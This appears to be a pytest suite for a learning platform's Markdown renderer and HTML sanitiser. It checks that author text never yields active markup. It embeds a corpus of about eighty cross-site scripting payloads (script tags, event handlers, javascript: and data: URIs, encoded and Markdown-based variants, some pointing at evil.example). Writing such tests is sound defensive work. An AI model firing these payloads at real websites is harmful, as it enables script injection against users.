"""No author's text becomes an active node (threat T11): a corpus in several places, and random Markdown."""

from __future__ import annotations

import dataclasses
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.content import Reference
from lms.content import questions as q
from lms.content.render import html as render_html
from lms.content.sanitise import ATTRIBUTES, TAGS, clean
from tests.content.samples import one

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script >",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' oNeRrOr='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<div data-item='x' onclick=alert(1)>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<textarea><script>alert(1)</script></textarea>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert&#40;1&#41;)",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](//evil.example "onmouseover=alert(1)")',
    '[x](https://e.example/" onmouseover="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](figures/a.svg)',
    '![x](figures/a.svg "x" onerror=alert(1))',
    "![x](figures/a.svg){: onerror=alert(1) }",
    "x {: style='color:red' onclick='alert(1)' }",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "``` { .x onclick=alert(1) }\nx\n```",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    'Table: "><script>alert(1)</script>\n\n| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
    '=== "<img src=x onerror=alert(1)>"\n    x',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>]\n\n[^"><script>]: y',
    "<b>\n: <script>alert(1)</script>",
    '{{item:"><script>alert(1)</script>}}',
    "{{item:x onclick=alert(1)}}",
    "{{fact:<script>alert(1)</script>}}",
    '[x](module:C1.1#"onclick=alert(1))',
    "[x](module:javascript:alert(1))",
    '[x](figure:"onerror=alert(1))',
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]
PLACES = {
    "alone": "{}",
    "below a heading": "## Heading {{#idea}}\n\nText {} text.",
    "in a list": "- one\n- {}\n",
    "in a callout": "> [!TIP]\n> {}",
}


class Nodes(HTMLParser):
    """Collects what a browser would not take as plain text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            self.attribute(tag, name, (value or "").strip().lower())

    def attribute(self, tag: str, name: str, value: str) -> None:
        if name not in ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | ({"rel"} if tag == "a" else set()):
            self.bad.append(f"{tag} {name}")
        if name == "href" and not value.startswith(("http://", "https://", "mailto:", "module:", "#")):
            self.bad.append(f"href {value}")
        if name == "src" and not value.startswith("figure:"):
            self.bad.append(f"src {value}")

    def handle_comment(self, data: str) -> None:
        self.bad.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.bad.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.bad.append("instruction")


def test_the_corpus_is_large() -> None:
    assert len(PAYLOADS) * len(PLACES) >= 200


@pytest.mark.parametrize("place", PLACES)
def test_nothing_active_in_modules(place: str) -> None:
    for payload in PAYLOADS:
        html = render_html(PLACES[place].format(payload), "en")
        assert Nodes(html).bad == [], (payload, html)


def test_nothing_active_in_items(reference: Reference) -> None:
    for payload in (payload for payload in PAYLOADS if "\n" not in payload and "\x02" not in payload):
        text = f"{payload}\n\n- [x] {payload} a\n  > {payload}\n- [ ] b\n  > x\n- [ ] c\n  > x\n\n> {payload}"
        entry = one(text, text)
        drawn = q.new_instance(entry, 1, reference)
        shown = q.deliver(entry, drawn, "en")
        after = q.explain(entry, drawn, "a", "en")
        pieces = [shown.stem_html, after.correct_html, after.general_html]
        pieces += [label for field in shown.fields for _, label in field.options]
        pieces += [html for part in after.parts for html in (part.label_html, part.feedback_html)]
        assert [Nodes(html).bad for html in pieces] == [[]] * len(pieces), payload


def test_typed_answers_come_back_as_text(reference: Reference) -> None:
    entry = one("Q\n\n- = a", "Q\n\n- = a", "short")
    after = q.explain(entry, {"facts": {}}, "<img src=x onerror=alert(1)>", "en")
    assert Nodes(after.parts[0].label_html).bad == [] and "&lt;img" in after.parts[0].label_html


def test_the_gate_itself_holds() -> None:
    """Even HTML that never went through Markdown leaves without anything active."""
    for payload in PAYLOADS:
        assert Nodes(clean(payload)).bad == [], payload
    assert clean('<p class="md-x evil" id="a">t</p>') == '<p class="md-x">t</p>'
    assert clean('<h2 id="Bad id">t</h2>') == "<h2>t</h2>"
    assert clean('<img src="https://evil.example/x.png" alt="a">') == '<img alt="a">'


SIGNS = """< > script img src= onerror= javascript: ( ) [ ] ! " ' ` | > [!NOTE] | a | | --- | {{item: {{fact: }} {#
/// model /// === " - &# ; a"""
PIECES = st.sampled_from([*SIGNS.split(), "\n", "\n\n", "    ", "```\n", "> [!NOTE]", "/// model\n", '=== "', "img "])


@settings(max_examples=60, deadline=None)
@given(st.one_of(st.text(max_size=120), st.lists(PIECES, max_size=40).map("".join)))
def test_random_markdown(text: str) -> None:
    assert Nodes(render_html(text, "hy")).bad == []


def test_dataclasses_hold_no_objects_that_render(reference: Reference) -> None:
    """Delivered items are plain text all through, so that a template cannot call anything on them."""
    entry = one("Q\n\n- = a", "Q\n\n- = a", "short")
    plain = dataclasses.asdict(q.deliver(entry, {"facts": {}}, "en"))
    assert all(isinstance(value, str | tuple | type(None)) for value in plain.values())
